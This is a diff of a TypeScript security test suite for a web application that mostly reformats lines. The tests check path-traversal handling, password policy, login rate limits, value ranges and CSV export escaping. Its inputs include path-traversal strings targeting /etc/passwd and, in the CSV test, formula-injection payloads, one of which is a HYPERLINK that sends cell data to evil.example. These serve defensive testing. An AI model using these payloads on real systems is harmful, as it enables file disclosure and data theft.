@@ -72,7 +72,12 @@ describe('every path that is not a route is a 404, never a 500', () => {
     const web = join(mkdtempSync(join(tmpdir(), 'jixiao-security-web-')), 'web');
     mkdirSync(join(web, 'assets'), { recursive: true });
     writeFileSync(join(web, 'index.html'), '<!doctype html><title>t</title>');
-    const logged = await buildApp({ store, accounts, webRoot: web, logger: { level: 'info', stream: { write: (l: string) => void lines.push(JSON.parse(l) as { level: number }) } } });
+    const logged = await buildApp({
+      store,
+      accounts,
+      webRoot: web,
+      logger: { level: 'info', stream: { write: (l: string) => void lines.push(JSON.parse(l) as { level: number }) } },
+    });
     // over a real socket: inject() would normalise `..` before the server sees it
     await logged.listen({ port: 0, host: '127.0.0.1' });
     const { port } = logged.server.address() as { port: number };
@@ -87,7 +92,21 @@ describe('every path that is not a route is a 404, never a 500', () => {
         req.on('error', reject);
         req.end();
       });
-    for (const path of ['/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc%2fpasswd', '/assets/../../../etc/passwd', '/assets/..%2f..%2f..%2fetc%2fpasswd', '/a%00b', '/..\\..\\etc\\passwd', '//etc/passwd', '/index.html/..', '/assets/', '/%c0%ae%c0%ae/etc/passwd', '/api/../../etc/passwd', '/docs/static/..%2f..%2fpackage.json']) {
+    for (const path of [
+      '/../../etc/passwd',
+      '/%2e%2e/%2e%2e/etc/passwd',
+      '/..%2f..%2fetc%2fpasswd',
+      '/assets/../../../etc/passwd',
+      '/assets/..%2f..%2f..%2fetc%2fpasswd',
+      '/a%00b',
+      '/..\\..\\etc\\passwd',
+      '//etc/passwd',
+      '/index.html/..',
+      '/assets/',
+      '/%c0%ae%c0%ae/etc/passwd',
+      '/api/../../etc/passwd',
+      '/docs/static/..%2f..%2fpackage.json',
+    ]) {
       const res = await get(path);
       expect(res.status, path).toBe(404);
       expect(JSON.parse(res.body), path).toMatchObject({ code: 'NOT_FOUND' });
@@ -101,7 +120,11 @@ describe('every path that is not a route is a 404, never a 500', () => {
 
   it('a fault of the server is a 500 INTERNAL, logged at error level; a refused request is not', async () => {
     const lines: Array<{ level: number }> = [];
-    const app = await buildApp({ store, accounts, logger: { level: 'info', stream: { write: (l: string) => void lines.push(JSON.parse(l) as { level: number }) } } });
+    const app = await buildApp({
+      store,
+      accounts,
+      logger: { level: 'info', stream: { write: (l: string) => void lines.push(JSON.parse(l) as { level: number }) } },
+    });
     // a route that fails as a bug would (outside /api: no session needed)
     app.get('/boom-for-test', async () => {
       throw new Error('boom');
@@ -118,7 +141,21 @@ describe('every path that is not a route is a 404, never a 500', () => {
 
 describe('passwords', () => {
   it('the policy: 10 characters, letters and digits, not a common one nor a common word dressed up, not the user name', () => {
-    for (const p of ['short1a', 'onlyletterss', '12345678901', 'password12', 'Password123', 'P@ssw0rd12', 'admin12345', 'Admin@2024!', 'woaini1314', 'qwertyuiop1', '1q2w3e4r5t', 'jixiao2023!', 'aaaaaaaaaa1'])
+    for (const p of [
+      'short1a',
+      'onlyletterss',
+      '12345678901',
+      'password12',
+      'Password123',
+      'P@ssw0rd12',
+      'admin12345',
+      'Admin@2024!',
+      'woaini1314',
+      'qwertyuiop1',
+      '1q2w3e4r5t',
+      'jixiao2023!',
+      'aaaaaaaaaa1',
+    ])
       expect(weakPassword(p), p).not.toBeNull();
     expect(weakPassword('zhangsan-2024a', 'zhangsan')).toBe('密码不能包含用户名');
     expect(weakPassword('password12')).toMatch(/常见/);
@@ -142,7 +179,10 @@ describe('passwords', () => {
 
   it('the current-password check is limited like a login: after 5 wrong ones even the right one gets 429', async () => {
     const c = await loginAs(server, accounts, { username: 'sun', role: 'admin' });
-    for (let i = 0; i < 5; i++) expect((await c.inject({ method: 'PUT', url: '/api/session/password', payload: { current: `guess-${i}-xx`, next: 'another-pass-88' } })).statusCode).toBe(422);
+    for (let i = 0; i < 5; i++)
+      expect((await c.inject({ method: 'PUT', url: '/api/session/password', payload: { current: `guess-${i}-xx`, next: 'another-pass-88' } })).statusCode).toBe(
+        422,
+      );
     const limited = await c.inject({ method: 'PUT', url: '/api/session/password', payload: { current: TEST_PASSWORD, next: 'another-pass-88' } });
     expect(limited.statusCode).toBe(429);
     expect(limited.json()).toMatchObject({ code: 'AUTH.RATE_LIMITED' });
@@ -184,7 +224,8 @@ describe('login limits and proxies', () => {
     for (const trustProxy of [1, ['127.0.0.1']] as const) {
       const app = await buildApp({ store, accounts, trustProxy, loginLimits: { perAccount: 100, perAddress: 10 } });
       const codes: number[] = [];
-      for (let i = 0; i < 40; i++) codes.push((await attempt(app, `nobody${i}`, 'x', '127.0.0.1', { 'x-forwarded-for': `198.51.100.${i}, 203.0.113.50` })).statusCode);
+      for (let i = 0; i < 40; i++)
+        codes.push((await attempt(app, `nobody${i}`, 'x', '127.0.0.1', { 'x-forwarded-for': `198.51.100.${i}, 203.0.113.50` })).statusCode);
       expect(codes.filter((c) => c === 429).length, String(trustProxy)).toBe(30);
       await app.close();
     }
@@ -210,8 +251,16 @@ describe('numbers within the domain, at the API edge and in the import', () => {
     const ev = golden('hebei-dachang-zhengfawei-2023.form-01.json');
     const huge = '1' + '0'.repeat(25);
     const cases: Array<[unknown, string, RegExp]> = [
-      [{ ...ev, budget: { ...ev.budget, lines: [{ ...ev.budget.lines[0]!, adjusted: { raw: huge, value: huge } }] } }, 'VALUE.OUT_OF_RANGE', /^evaluation\.budget\.lines\.0\.adjusted\.value$/],
-      [{ ...ev, indicators: [{ ...ev.indicators[0]!, points: { raw: '5000', value: '5000' } }] }, 'VALUE.OUT_OF_RANGE', /^evaluation\.indicators\.0\.points\.value$/],
+      [
+        { ...ev, budget: { ...ev.budget, lines: [{ ...ev.budget.lines[0]!, adjusted: { raw: huge, value: huge } }] } },
+        'VALUE.OUT_OF_RANGE',
+        /^evaluation\.budget\.lines\.0\.adjusted\.value$/,
+      ],
+      [
+        { ...ev, indicators: [{ ...ev.indicators[0]!, points: { raw: '5000', value: '5000' } }] },
+        'VALUE.OUT_OF_RANGE',
+        /^evaluation\.indicators\.0\.points\.value$/,
+      ],
       [{ ...ev, year: -5 }, 'VALUE.OUT_OF_RANGE', /^evaluation\.year$/],
       [{ ...ev, year: 99_999_999 }, 'VALUE.OUT_OF_RANGE', /^evaluation\.year$/],
       [{ ...ev, project: { ...ev.project, name: { raw: 'x'.repeat(10 * 1024 * 1024) } } }, 'VALUE.TOO_LONG', /^evaluation\.project\.name\.raw$/],
@@ -246,12 +295,24 @@ describe('numbers within the domain, at the API edge and in the import', () => {
     seed[26] = '\t10000000000000';
     seed[27] = '\t1' + '0'.repeat(25);
     const boundary = '----b' + Date.now();
-    const payload = Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n`), Buffer.from(seed.join('\n')), Buffer.from(`\r\n--${boundary}--\r\n`)]);
-    const preview = await admin.inject({ method: 'POST', url: '/api/import', payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
+    const payload = Buffer.concat([
+      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n`),
+      Buffer.from(seed.join('\n')),
+      Buffer.from(`\r\n--${boundary}--\r\n`),
+    ]);
+    const preview = await admin.inject({
+      method: 'POST',
+      url: '/api/import',
+      payload,
+      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
+    });
     expect(preview.statusCode).toBe(200);
     const body = preview.json() as { token: string; files: Array<{ notes: Array<{ code: string; message: string }> }> };
     const notes = body.files[0]!.notes.filter((n) => n.code === 'IMPORT.VALUE_OUT_OF_RANGE');
-    expect(notes.map((n) => n.message)).toEqual([expect.stringContaining('第 1 张表预算表第 1 行全年预算数：“10000000000000”超出范围'), expect.stringContaining('第 1 张表预算表第 1 行全年执行数')]);
+    expect(notes.map((n) => n.message)).toEqual([
+      expect.stringContaining('第 1 张表预算表第 1 行全年预算数：“10000000000000”超出范围'),
+      expect.stringContaining('第 1 张表预算表第 1 行全年执行数'),
+    ]);
     const commit = await admin.inject({ method: 'POST', url: `/api/import/${body.token}/commit`, payload: { departmentId: dept } });
     expect(commit.statusCode).toBe(201);
     const stored = await store.listEvaluations({ departmentId: dept });
@@ -269,7 +330,11 @@ describe('exports and records', () => {
     const dept = (await store.ensureDepartment({ code: 'csv', name: 'CSV 部门' })).id;
     const ev = JSON.parse(readFileSync(join(import.meta.dirname, '../../../fixtures/golden/hebei-dachang-zhengfawei-2023.form-03.json'), 'utf8')) as Evaluation;
     const [saved] = await store.importEvaluations({ departmentId: dept, forms: preparedSelfEvaluations([ev]), actor: 'csv-admin' });
-    const evil = { ...ev, project: { ...ev.project, name: { raw: "=cmd|' /C calc'!A0" } }, goals: { ...ev.goals, expected: { raw: '=HYPERLINK("http://evil.example/?d="&A1,"点此")' } } };
+    const evil = {
+      ...ev,
+      project: { ...ev.project, name: { raw: "=cmd|' /C calc'!A0" } },
+      goals: { ...ev.goals, expected: { raw: '=HYPERLINK("http://evil.example/?d="&A1,"点此")' } },
+    };
     expect((await admin.inject({ method: 'PUT', url: `/api/evaluations/${saved!.id}`, payload: { version: 1, evaluation: evil } })).statusCode).toBe(200);
     const csv = (await admin.inject(`/api/evaluations/${saved!.id}/history.csv`)).body;
     expect(csv).toContain(`'=cmd|' /C calc'!A0`);
